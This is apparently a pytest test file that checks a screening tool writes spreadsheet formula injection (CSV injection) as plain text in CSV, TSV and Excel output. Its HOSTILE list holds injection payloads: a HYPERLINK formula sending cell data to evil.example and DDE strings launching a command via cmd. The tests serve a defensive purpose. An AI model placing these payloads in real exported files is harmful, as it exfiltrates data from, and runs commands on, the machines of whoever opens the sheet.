"""Spreadsheet formula injection: cells such as =HYPERLINK(…), +cmd|…, @SUM(…) copied from
the input are written as text into CSV, TSV and Excel output (OWASP's CSV injection
guidance), unless the user asks for raw values with keep_formulas."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from clearance.workflows.batch import ScreenOptions, screen_file
from clearance.workflows.formulas import is_formula_like, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",  # full-width equals sign
]
PLAIN = ["Hikvision", "-12.5", "+44", "1e5", "O'Brien", "x=1"]


def test_what_counts_as_a_formula() -> None:
    assert all(is_formula_like(text) for text in HOSTILE)
    assert not any(is_formula_like(text) for text in PLAIN)
    assert neutralise(HOSTILE[0]) == "'" + HOSTILE[0]
    assert neutralise("-12.5") == "-12.5"


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("formulas") / "customers.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["name", "note"])
        for text in HOSTILE:
            writer.writerow(["Hikvision", text])
        writer.writerow([HOSTILE[0], "-12.5"])  # in the name column too
    return path


def _cells(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".xlsx":
        sheet = load_workbook(path).active
        rows = [[c.value for c in row] for row in sheet.iter_rows()]
        formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert not formulas or path.stem.endswith("raw"), formulas
        return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f, delimiter="\t" if path.suffix == ".tsv" else ","))


@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
def test_input_cells_are_written_as_text_by_default(
    screener: Any, store: Any, hostile_csv: Path, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"screened.{fmt}"
    screen_file(screener, hostile_csv, out, store=store, options=ScreenOptions(workers=1))
    rows = _cells(out)
    notes = [row["note"] for row in rows]
    if fmt == "xlsx":  # typed text cells: the value is kept exactly, and is no formula
        assert notes[: len(HOSTILE)] == HOSTILE
    else:
        assert notes[: len(HOSTILE)] == ["'" + text for text in HOSTILE]
        assert rows[-1]["name"] == "'" + HOSTILE[0]
    assert rows[-1]["note"] == "-12.5"  # a number stays as it was
    assert rows[0]["screen_hit"] in ("yes", True)  # and the screening itself is unchanged


def test_keep_formulas_writes_raw_values(
    screener: Any, store: Any, hostile_csv: Path, tmp_path: Path
) -> None:
    options = ScreenOptions(workers=1, keep_formulas=True)
    screen_file(screener, hostile_csv, tmp_path / "raw.csv", store=store, options=options)
    assert [row["note"] for row in _cells(tmp_path / "raw.csv")][: len(HOSTILE)] == HOSTILE
    screen_file(screener, hostile_csv, tmp_path / "raw.xlsx", store=store, options=options)
    sheet = load_workbook(tmp_path / "raw.xlsx").active
    assert sheet["B2"].data_type == "f"  # what the user asked for: the formula itself
